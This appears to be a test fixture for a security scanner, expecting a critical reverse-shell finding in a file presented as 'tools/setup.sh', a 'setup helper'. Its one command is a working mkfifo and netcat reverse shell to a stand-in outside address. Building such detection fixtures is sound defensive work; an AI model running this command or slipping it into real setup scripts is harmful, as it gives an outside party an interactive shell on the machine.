# expect: shell.reverse_shell critical
# path: tools/setup.sh
#!/bin/sh
# setup helper
rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.9 1234 > /tmp/f
